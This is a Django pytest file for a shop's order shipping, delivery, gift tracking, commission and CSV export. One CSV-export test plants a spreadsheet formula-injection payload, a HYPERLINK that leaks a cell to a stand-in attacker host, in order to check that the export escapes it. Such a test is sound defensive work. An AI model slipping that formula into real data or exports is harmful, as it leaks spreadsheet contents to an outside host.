"""A merchant ships and delivers orders; commission and the merchant's net."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from merchants.models import AddressAccessLog
from shop.orders import services as orders
from shop.orders.models import Order, OrderEvent
from shop.payments import services as payments
from tests.factories import (
    CategoryFactory,
    OrderFactory,
    ProductFactory,
    SkuFactory,
    UserFactory,
)
from tests.gifts import link, live_gift
from tests.merchants.adminforms import action, messages_of
from tests.merchants.world import merchant_user, place_order

pytestmark = pytest.mark.django_db

CLAIM_FORM = {
    "recipient_name": "李小红",
    "phone": "13912345678",
    "province": "浙江省",
    "city": "杭州市",
    "district": "西湖区",
    "street": "文三路 1 号",
    "action": "accept",
}


@pytest.fixture
def order(client: Client) -> Order:
    return place_order(client, SkuFactory(price=Decimal("88.00")))


@pytest.fixture
def staff(client: Client, order: Order) -> Client:
    """The order's merchant's owner, logged in."""
    client.force_login(merchant_user(order.merchant))
    return client


def shipping_url(order: Order) -> str:
    return reverse("admin:orders_order_shipping", args=[order.pk])


def shopper_client(order: Order) -> Client:
    shopper = Client(HTTP_ACCEPT_LANGUAGE="en")
    shopper.force_login(order.user)
    return shopper


# --- Shipping one order ---------------------------------------------------------------


def test_the_shipping_page_offers_the_form_for_a_paid_order(staff, order) -> None:
    page = staff.get(shipping_url(order))
    assert page.status_code == 200
    assert 'name="carrier"' in page.text and 'name="tracking_number"' in page.text


def test_a_merchant_ships_a_paid_order_from_its_shipping_page(staff, order) -> None:
    response = staff.post(
        shipping_url(order), {"carrier": " 顺丰速运 ", "tracking_number": " SF1234567890 "}
    )
    assert response.status_code == 302 and response["Location"] == shipping_url(order)
    page = staff.get(response["Location"])
    assert "Shipped." in messages_of(page)
    assert "顺丰速运 SF1234567890" in page.text
    order.refresh_from_db()
    assert (order.status, order.carrier, order.tracking_number) == (
        Order.Status.SHIPPED,
        "顺丰速运",
        "SF1234567890",
    )
    assert order.shipped_at is not None
    event = order.events.get(kind=OrderEvent.Kind.SHIPPED)
    assert event.note == "顺丰速运 SF1234567890"
    # Posting the form is not an opening of the address; loading the page again is.
    assert AddressAccessLog.objects.filter(order=order).count() == 1


def test_the_shopper_sees_the_carrier_and_tracking_number(staff, order) -> None:
    staff.post(shipping_url(order), {"carrier": "顺丰速运", "tracking_number": "SF1234567890"})
    page = shopper_client(order).get(reverse("orders:detail", args=[order.number]))
    assert page.status_code == 200
    assert "Shipped" in page.text
    assert 'id="tracking"' in page.text
    assert "顺丰速运 · SF1234567890" in page.text


def test_a_merchant_marks_a_shipped_order_delivered(staff, order) -> None:
    orders.order_ship(order=order, carrier="中通快递", tracking_number="ZTO1")
    page = staff.get(shipping_url(order))
    assert 'name="_delivered"' in page.text
    response = staff.post(shipping_url(order), {"_delivered": "1"})
    assert "Marked delivered." in messages_of(staff.get(response["Location"]))
    order.refresh_from_db()
    assert order.status == Order.Status.COMPLETED
    assert order.delivered_at is not None
    assert order.events.filter(kind=OrderEvent.Kind.COMPLETED).count() == 1
    detail = shopper_client(order).get(reverse("orders:detail", args=[order.number]))
    assert "Delivered" in detail.text


@pytest.mark.parametrize(
    "data",
    [
        {"carrier": "顺丰速运", "tracking_number": ""},
        {"carrier": "顺丰速运", "tracking_number": "   "},
        {"carrier": "", "tracking_number": "SF1"},
        {"carrier": "顺丰速运", "tracking_number": "X" * 51},
    ],
    ids=["empty-tracking", "blank-tracking", "empty-carrier", "tracking-too-long"],
)
def test_bad_shipment_details_are_refused(staff, order, data) -> None:
    response = staff.post(shipping_url(order), data)
    assert response.status_code == 200
    assert response.context["form"].errors
    order.refresh_from_db()
    assert (order.status, order.tracking_number) == (Order.Status.PAID, "")


def test_the_service_refuses_blank_details_too(order) -> None:
    with pytest.raises(orders.OrderError, match=r"Give the carrier and the tracking number\."):
        orders.order_ship(order=order, carrier="顺丰速运", tracking_number="  ")
    assert Order.objects.get(pk=order.pk).status == Order.Status.PAID


def test_an_unpaid_order_cannot_be_shipped(client) -> None:
    unpaid = place_order(client, SkuFactory(), pay=False)
    client.force_login(merchant_user(unpaid.merchant))
    page = client.get(shipping_url(unpaid))
    assert 'name="tracking_number"' not in page.text
    response = client.post(shipping_url(unpaid), {"carrier": "顺丰速运", "tracking_number": "SF1"})
    assert "Only a paid order that has not shipped can be shipped." in messages_of(
        client.get(response["Location"])
    )
    unpaid.refresh_from_db()
    assert (unpaid.status, unpaid.tracking_number) == (Order.Status.PENDING_PAYMENT, "")


def test_an_order_already_shipped_cannot_be_shipped_again(staff, order) -> None:
    orders.order_ship(order=order, carrier="顺丰速运", tracking_number="SF1")
    response = staff.post(shipping_url(order), {"carrier": "圆通速递", "tracking_number": "YT2"})
    assert "Only a paid order that has not shipped can be shipped." in messages_of(
        staff.get(response["Location"])
    )
    order.refresh_from_db()
    assert (order.carrier, order.tracking_number) == ("顺丰速运", "SF1")
    assert order.events.filter(kind=OrderEvent.Kind.SHIPPED).count() == 1


def test_a_paid_order_cannot_be_marked_delivered_before_shipping(staff, order) -> None:
    response = staff.post(shipping_url(order), {"_delivered": "1"})
    assert "Only a shipped order can be marked delivered." in messages_of(
        staff.get(response["Location"])
    )
    assert Order.objects.get(pk=order.pk).status == Order.Status.PAID


def test_a_cancelled_order_cannot_be_shipped(client) -> None:
    unpaid = place_order(client, SkuFactory(), pay=False)
    orders.order_cancel(order=unpaid)
    with pytest.raises(orders.OrderError):
        orders.order_ship(order=unpaid, carrier="顺丰速运", tracking_number="SF1")
    assert Order.objects.get(pk=unpaid.pk).status == Order.Status.CANCELLED


def test_a_paid_order_partly_refunded_can_still_be_shipped(staff, order) -> None:
    request = orders.refund_request_create(order=order, amount=Decimal("8.00"), reason="差价")
    payments.refund_execute(refund_id=orders.refund_request_approve(request=request).pk)
    page = staff.get(shipping_url(order))
    assert 'name="tracking_number"' in page.text
    listed = action(staff, reverse("admin:orders_order_changelist"), "ship_selected", [order.pk])
    assert [o.pk for o in listed.context["orders"]] == [order.pk]
    staff.post(shipping_url(order), {"carrier": "顺丰速运", "tracking_number": "SF1"})
    order.refresh_from_db()
    assert (order.status, order.tracking_number) == (Order.Status.SHIPPED, "SF1")
    assert order.refunded_amount == Decimal("8.00")
    with pytest.raises(orders.OrderError):
        orders.order_ship(order=order, carrier="顺丰速运", tracking_number="SF2")


def test_a_shipped_order_partly_refunded_can_still_be_marked_delivered(staff, order) -> None:
    orders.order_ship(order=order, carrier="顺丰速运", tracking_number="SF1")
    request = orders.refund_request_create(order=order, amount=Decimal("8.00"), reason="少一件")
    payments.refund_execute(refund_id=orders.refund_request_approve(request=request).pk)
    page = staff.get(shipping_url(order))
    assert 'name="_delivered"' in page.text and 'name="tracking_number"' not in page.text
    staff.post(shipping_url(order), {"_delivered": "1"})
    order.refresh_from_db()
    assert order.delivered_at is not None and order.status == Order.Status.COMPLETED
    with pytest.raises(orders.OrderError):
        orders.order_mark_delivered(order=order)


def test_a_partly_refunded_order_that_never_shipped_cannot_be_marked_delivered(order) -> None:
    request = orders.refund_request_create(order=order, amount=Decimal("8.00"), reason="差价")
    payments.refund_execute(refund_id=orders.refund_request_approve(request=request).pk)
    with pytest.raises(orders.OrderError):
        orders.order_mark_delivered(order=order)
    assert Order.objects.get(pk=order.pk).delivered_at is None


# --- Shipping in bulk -----------------------------------------------------------------


def test_ship_selected_asks_for_each_tracking_number_then_ships(client) -> None:
    sku = SkuFactory()
    first, second, third = (place_order(client, sku) for _ in range(3))
    unpaid = place_order(client, sku, pay=False)
    client.force_login(merchant_user(sku.product.merchant))
    url = reverse("admin:orders_order_changelist")
    ids = [first.pk, second.pk, third.pk, unpaid.pk]

    page = action(client, url, "ship_selected", ids)
    assert page.status_code == 200
    assert {o.pk for o in page.context["orders"]} == {first.pk, second.pk, third.pk}
    assert f'name="tracking-{first.pk}"' in page.text
    assert unpaid.number not in page.text

    done = action(
        client,
        url,
        "ship_selected",
        ids,
        apply="1",
        **{
            f"carrier-{first.pk}": "顺丰速运",
            f"tracking-{first.pk}": "SF-A",
            f"carrier-{second.pk}": "中通快递",
            f"tracking-{second.pk}": "ZTO-B",
            f"carrier-{third.pk}": "顺丰速运",
            f"tracking-{third.pk}": "",  # not yet: stays paid
            f"carrier-{unpaid.pk}": "顺丰速运",
            f"tracking-{unpaid.pk}": "SF-X",
        },
    )
    assert done.status_code == 302
    assert "2 orders shipped." in messages_of(client.get(done["Location"]))
    statuses = {
        o.pk: (o.status, o.carrier, o.tracking_number) for o in Order.objects.filter(pk__in=ids)
    }
    assert statuses == {
        first.pk: (Order.Status.SHIPPED, "顺丰速运", "SF-A"),
        second.pk: (Order.Status.SHIPPED, "中通快递", "ZTO-B"),
        third.pk: (Order.Status.PAID, "", ""),
        unpaid.pk: (Order.Status.PENDING_PAYMENT, "", ""),
    }


def test_bulk_shipping_with_a_blank_carrier_ships_nothing(client) -> None:
    sku = SkuFactory()
    paid = place_order(client, sku)
    client.force_login(merchant_user(sku.product.merchant))
    done = action(
        client,
        reverse("admin:orders_order_changelist"),
        "ship_selected",
        [paid.pk],
        apply="1",
        **{f"carrier-{paid.pk}": " ", f"tracking-{paid.pk}": "SF-1"},
    )
    shown = messages_of(client.get(done["Location"]))
    assert f"{paid.number}: Give the carrier and the tracking number." in shown
    assert "0 orders shipped." in shown
    assert Order.objects.get(pk=paid.pk).status == Order.Status.PAID


def test_mark_delivered_in_bulk(client) -> None:
    sku = SkuFactory()
    shipped, paid = place_order(client, sku), place_order(client, sku)
    orders.order_ship(order=shipped, carrier="顺丰速运", tracking_number="SF1")
    client.force_login(merchant_user(sku.product.merchant))
    done = action(
        client, reverse("admin:orders_order_changelist"), "mark_delivered", [shipped.pk, paid.pk]
    )
    assert "1 orders marked delivered." in messages_of(client.get(done["Location"]))
    assert Order.objects.get(pk=shipped.pk).status == Order.Status.COMPLETED
    assert Order.objects.get(pk=paid.pk).status == Order.Status.PAID


# --- Gifts ----------------------------------------------------------------------------


@pytest.fixture
def claimed(client: Client) -> tuple[Client, Order, str]:
    """A gift accepted by a recipient (who keeps the claim page open in their session)."""
    gift = live_gift(client)
    recipient = Client(HTTP_ACCEPT_LANGUAGE="en")
    recipient.post(link(gift), CLAIM_FORM)
    order = Order.objects.get(gift_claim__gift=gift)
    return recipient, order, link(gift)


def test_a_gifts_order_shipped_shows_on_the_recipients_claim_page(client, claimed) -> None:
    recipient, order, url = claimed
    assert "Paid" in recipient.get(url).text
    client.force_login(merchant_user(order.merchant))
    client.post(shipping_url(order), {"carrier": "顺丰速运", "tracking_number": "SF-GIFT-1"})
    page = recipient.get(url)
    assert "You accepted this gift" in page.text
    assert "status--shipped" in page.text and "Shipped" in page.text


def test_the_gift_recipient_sees_the_carrier_and_tracking_number(client, claimed) -> None:
    recipient, order, url = claimed
    client.force_login(merchant_user(order.merchant))
    client.post(shipping_url(order), {"carrier": "顺丰速运", "tracking_number": "SF-GIFT-1"})
    page = recipient.get(url)
    assert "顺丰速运 SF-GIFT-1" in page.text


def test_a_logged_in_recipient_sees_the_tracking_number_among_gifts_received(client) -> None:
    gift = live_gift(client)
    recipient = Client(HTTP_ACCEPT_LANGUAGE="en")
    recipient.force_login(UserFactory())
    recipient.post(link(gift), CLAIM_FORM)
    order = Order.objects.get(gift_claim__gift=gift)
    orders.order_ship(order=order, carrier="中通快递", tracking_number="ZTO-GIFT")
    page = recipient.get(reverse("gifting:received"))
    assert "中通快递 ZTO-GIFT" in page.text


def test_the_gift_sender_never_sees_the_recipients_tracking_or_address(client, claimed) -> None:
    _, order, url = claimed
    gift = order.gift_claim.gift
    orders.order_ship(order=order, carrier="顺丰速运", tracking_number="SF-GIFT-1")
    sender = Client(HTTP_ACCEPT_LANGUAGE="en")
    sender.force_login(gift.sender)
    page = sender.get(url)
    assert "13912345678" not in page.text
    assert "文三路" not in page.text


# --- Commission and the merchant's net -------------------------------------------------


def _two_category_order(client: Client) -> Order:
    tea = CategoryFactory(commission_rate=Decimal("0.050"))
    jade = CategoryFactory(commission_rate=Decimal("0.080"))
    cake = SkuFactory(product=ProductFactory(category=tea), price=Decimal("33.33"))
    ring = SkuFactory(
        product=ProductFactory(category=jade, merchant=cake.product.merchant),
        price=Decimal("19.99"),
    )
    return place_order(client, cake, quantity=2, extra=[(ring, 1)])


def test_commission_is_each_lines_total_at_its_categorys_rate_rounded_to_the_fen(client) -> None:
    order = _two_category_order(client)
    # 2 × 33.33 × 0.05 = 3.333 → 3.33; 19.99 × 0.08 = 1.5992 → 1.60
    assert order.total == Decimal("86.65")
    assert order.commission == Decimal("4.93")
    rates = sorted(order.lines.values_list("commission_rate", flat=True))
    assert rates == [Decimal("0.050"), Decimal("0.080")]
    assert order.merchant_net == Decimal("81.72")


def test_commission_rounds_half_up(client) -> None:
    category = CategoryFactory(commission_rate=Decimal("0.050"))
    sku = SkuFactory(product=ProductFactory(category=category), price=Decimal("0.50"))
    order = place_order(client, sku)
    assert order.commission == Decimal("0.03")  # 0.025 → 0.03, not banker's 0.02


def test_the_rate_is_the_one_when_the_order_was_placed(client) -> None:
    order = _two_category_order(client)
    for line in order.lines.select_related("sku__product__category"):
        category = line.sku.product.category
        category.commission_rate = Decimal("0.150")
        category.save()
    order.refresh_from_db()
    assert order.commission == Decimal("4.93")


def test_a_gift_orders_commission_uses_its_category_rate(client) -> None:
    gift = live_gift(client, price="99.00")
    recipient = Client(HTTP_ACCEPT_LANGUAGE="en")
    recipient.post(link(gift), CLAIM_FORM)
    order = Order.objects.get(gift_claim__gift=gift)
    rate = gift.sku.product.category.commission_rate
    assert order.commission == (Decimal("99.00") * rate).quantize(Decimal("0.01"))


def test_the_merchants_net_is_total_less_refunds_less_commission(client) -> None:
    order = _two_category_order(client)
    request = orders.refund_request_create(order=order, amount=Decimal("10.00"), reason="少一件")
    payments.refund_execute(refund_id=orders.refund_request_approve(request=request).pk)
    order.refresh_from_db()
    assert order.refunded_amount == Decimal("10.00")
    assert order.merchant_net == Decimal("86.65") - Decimal("10.00") - Decimal("4.93")


def test_the_csv_export_has_commission_and_net(client) -> None:
    order = _two_category_order(client)
    orders.order_ship(order=order, carrier="顺丰速运", tracking_number="SF9")
    request = orders.refund_request_create(order=order, amount=Decimal("10.00"), reason="少一件")
    payments.refund_execute(refund_id=orders.refund_request_approve(request=request).pk)
    client.force_login(merchant_user(order.merchant))
    response = action(client, reverse("admin:orders_order_changelist"), "export_csv", [order.pk])
    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["number"] == order.number
    assert (row["total"], row["refunded"], row["commission"], row["net"]) == (
        "86.65",
        "10.00",
        "4.93",
        "71.72",
    )
    assert (row["carrier"], row["tracking_number"]) == ("顺丰速运", "SF9")
    assert row["status"] == Order.Status.PARTIALLY_REFUNDED


def test_the_csv_export_never_writes_a_formula_from_what_a_recipient_typed(client) -> None:
    city = '=HYPERLINK("https://evil.example/?leak="&A2,"杭州市")'
    order = OrderFactory(city=city, tracking_number="+86 SF9")
    client.force_login(merchant_user(order.merchant))
    response = action(client, reverse("admin:orders_order_changelist"), "export_csv", [order.pk])
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (row["city"], row["tracking_number"]) == (f"'{city}", "'+86 SF9")
    assert row["total"] == "99.00"


def test_the_order_page_in_the_admin_shows_commission_and_net(client) -> None:
    order = _two_category_order(client)
    client.force_login(merchant_user(order.merchant))
    page = client.get(reverse("admin:orders_order_change", args=[order.pk]))
    assert "4.93" in page.text
    assert "¥81.72" in page.text
